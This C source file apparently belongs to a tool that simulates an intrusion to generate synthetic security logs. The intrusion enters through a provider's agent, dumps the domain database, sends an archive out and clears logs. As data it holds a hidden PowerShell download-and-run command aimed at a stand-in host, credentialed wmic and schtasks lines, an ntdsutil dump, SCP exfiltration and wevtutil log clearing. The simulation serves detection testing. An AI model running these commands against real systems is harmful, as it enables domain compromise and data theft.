/* SPDX-License-Identifier: Apache-2.0
 *
 * The first story at birch, in the small hours of Wednesday: in through the provider's management agent, to the domain
 * controller with a service account whose password was guessed from its ticket, and back to the provider by SCP.
 *
 * In: the scene with a desktop at the jump host. Out: marked events in its world.
 */
#include "simulate/story_first.h"

#define MEDIA "C:\\ProgramData\\media\\"

/* A job of the provider's console, and the agent that does it. Returns the shell at the server. */
static struct sp_process arrive(struct sp_scene *scene)
{
    struct sp_world *world = scene->world;
    struct sp_host *erp = scene->erp;
    static const char script[] = "$w = New-Object Net.WebClient; IEX $w.DownloadString('http://update.cdn-kilo.example/c')";

    sp_scene_step(scene, "job given to the agents", "T1072");
    sp_scene_once(scene, &scene->jump_shell, "C:\\Program Files\\North\\Console\\north-console.exe",
                  "\"C:\\Program Files\\North\\Console\\north-console.exe\" job run --customer birch --host SRV-ERP-01 --file C:\\Users\\Public\\m.ps1");
    sp_scene_hop(scene, "in through the provider's agent", "T1199", "northmsp", "birch", "rmm");
    struct sp_process agent = sp_act_resident(world, erp, &erp->system, AGENT, "\"" AGENT "\" --service");
    struct sp_process ps = sp_scene_run(scene, &agent, PS,
                                        sp_world_text(world, "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand %s",
                                                      sp_world_encoded(world, script)));
    sp_act_script(world, scene->now, &ps, script, NULL);
    scene->now = sp_world_soon(world, scene->now, 400);
    sp_act_query(world, scene->now, &ps, "update.cdn-kilo.example", "::ffff:192.0.2.200");
    scene->now = sp_world_soon(world, scene->now, 400);
    sp_act_connect(world, scene->now, &ps, &(struct sp_peer){ "192.0.2.200", NULL, 80, "http" });
    return sp_scene_run(scene, &ps, CMD, "cmd.exe");
}

/* Tickets in the old encryption for every service account: their passwords can be guessed at leisure. */
static void roast(struct sp_scene *scene)
{
    static const char *const services[] = { "svc-erp", "svc-scan", "svc-print", "svc-backup", "svc-label" };

    sp_scene_step(scene, "tickets of service accounts", "T1558.003");
    for (size_t i = 0; i < sizeof services / sizeof *services; i++) {
        struct sp_ticket ticket = { services[i], "0x17", scene->erp->ip };

        sp_act_ticket(scene->world, scene->now, scene->dc, &scene->erp->account, &ticket);
        scene->now = sp_world_soon(scene->world, scene->now, 60);
    }
}

/* At the domain controller: the database, the secrets of all accounts, a task. */
static void take_domain(struct sp_scene *scene, const struct sp_process *from)
{
    static const char replicate[] = "%%7688\r\n\t\t{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n";
    static const char replicate_all[] = "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n";
    struct sp_world *world = scene->world;
    struct sp_host *dc = scene->dc;
    struct sp_logon logon = { &sp_cast.erp, 3, "Kerberos", NULL, scene->erp->ip, "High" };

    sp_scene_step(scene, "shell at the domain controller", "T1047");
    sp_scene_once(scene, from, S32 "wbem\\wmic.exe", "wmic.exe /node:DC-01 /user:BIRCH\\svc-erp /password:x process call create \"cmd.exe /Q /c ntdsutil\"");
    sp_act_ticket_granting(world, scene->now, dc, &sp_cast.erp, scene->erp->ip);
    scene->now = sp_world_soon(world, scene->now, 100);
    const struct sp_session *session = sp_act_logon(world, &scene->now, dc, &logon);
    struct sp_process wmi = sp_act_resident(world, dc, &dc->network, S32 "wbem\\WmiPrvSE.exe", S32 "wbem\\wmiprvse.exe -secured -Embedding");
    struct sp_process shell = sp_act_start(world, &scene->now, &wmi, session, CMD,
                                           "cmd.exe /Q /c ntdsutil \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\ifm\" q q");
    sp_scene_step(scene, "database of the domain copied", "T1003.003");
    struct sp_process copy = sp_scene_run(scene, &shell, S32 "ntdsutil.exe", "ntdsutil  \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\ifm\" q q");
    scene->now += 25 * SP_TICKS_SECOND;
    sp_act_file(world, scene->now, &copy, "C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit");
    sp_act_end(world, scene->now + SP_TICKS_SECOND, &copy);
    sp_act_end(world, scene->now + 2 * SP_TICKS_SECOND, &shell);
    sp_scene_step(scene, "secrets replicated", "T1003.006");
    for (int i = 0; i < 3; i++) {
        sp_world_add(world, dc, SP_SEC_DIRECTORY, scene->now,
                     SP_PAIRS({ "SubjectUserSid", session->user->sid }, { "SubjectUserName", session->user->name },
                              { "SubjectDomainName", session->user->domain }, { "SubjectLogonId", sp_world_hex(world, session->logon_id) },
                              { "ObjectName", "%{3f0c2a71-5d1e-4b7c-8a44-0d2b6f5e9c13}" },
                              { "Properties", i ? replicate_all : replicate } ));
        scene->now = sp_world_soon(world, scene->now, 90);
    }
    sp_scene_step(scene, "task on the other host", "T1053.005");
    sp_scene_once(scene, from, S32 "schtasks.exe",
                  "schtasks.exe /create /s DC-01 /u BIRCH\\svc-erp /p x /ru SYSTEM /sc daily /st 02:00 /tn \"Clock check\" /tr C:\\PerfLogs\\t.cmd");
    sp_act_task(world, scene->now, dc, session, "\\Clock check", "C:\\PerfLogs\\t.cmd");
    sp_act_logoff(world, scene->now + 30 * SP_TICKS_SECOND, dc, session, 3);
}

static void carry_back(struct sp_scene *scene, const struct sp_process *shell)
{
    struct sp_world *world = scene->world;
    struct sp_host *jump = scene->jump;

    sp_scene_step(scene, "archive put aside", "T1560.001");
    struct sp_process rar = sp_scene_run(scene, shell, RAR, "rar.exe a -r -hpK2m9 -v200m " MEDIA "e1.rar D:\\Ledger\\export \\\\DC-01\\C$\\Windows\\Temp\\ifm");
    scene->now += 2 * SP_TICKS_MINUTE;
    sp_act_file(world, scene->now, &rar, MEDIA "e1.part1.rar");
    sp_act_end(world, scene->now + SP_TICKS_SECOND, &rar);
    sp_scene_step(scene, "sent to the provider", "T1048.002");
    struct sp_process send = sp_scene_run(scene, shell, "C:\\Users\\Public\\svcdrv.exe",
                                          "C:\\Users\\Public\\svcdrv.exe -batch -pw x " MEDIA "e1.part1.rar relay@" JUMP_EGRESS ":/media/");
    sp_act_connect(world, scene->now, &send, &(struct sp_peer){ JUMP_EGRESS, NULL, 22, "ssh" });
    const struct sp_mark *here = world->mark;
    sp_scene_hop(scene, "archive arrives at the provider", "T1074.002", "birch", "northmsp", "rmm");
    struct sp_process sshd = sp_act_resident(world, jump, &jump->system, S32 "OpenSSH\\sshd.exe", "\"" S32 "OpenSSH\\sshd.exe\" -R");
    sp_act_file(world, scene->now + 50 * SP_TICKS_SECOND, &sshd, MEDIA "e1.part1.rar");
    scene->now += 70 * SP_TICKS_SECOND;
    world->mark = here;
    sp_act_end(world, scene->now, &send);
}

void sp_first_birch(struct sp_scene *scene)
{
    struct sp_world *world = scene->world;

    sp_scene_at(scene, 2, 2, 10);
    struct sp_process shell = arrive(scene);
    roast(scene);
    scene->now += 16 * SP_TICKS_MINUTE;
    take_domain(scene, &shell);
    carry_back(scene, &shell);
    sp_scene_step(scene, "log of the server emptied", "T1070.001");
    sp_scene_once(scene, &shell, S32 "wevtutil.exe", "wevtutil.exe cl System");
    sp_act_clear(world, scene->now, scene->erp, shell.session, "System");
    sp_scene_step(scene, "left", "T1199");
    sp_act_end(world, scene->now, &shell);
}
